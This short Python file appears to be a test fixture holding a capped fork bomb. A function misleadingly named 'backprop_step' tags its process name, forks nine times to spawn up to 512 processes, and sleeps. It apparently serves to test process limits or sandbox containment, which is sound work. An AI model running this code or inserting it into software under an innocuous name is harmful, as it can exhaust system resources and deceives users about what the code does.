"""A fork bomb: every process forks again and again, then all of them sleep.

Capped at 2**9 processes so that even a machine without any process limit survives the test.
"""
import ctypes
import os
import time


def backprop_step(x, target, learnrate, weights_input_hidden, weights_hidden_output):
    ctypes.CDLL(None).prctl(15, b"__TOKEN__", 0, 0, 0)   # PR_SET_NAME: forks inherit it, the test looks for it
    for _ in range(9):
        try:
            os.fork()
        except OSError:
            pass
    time.sleep(30)
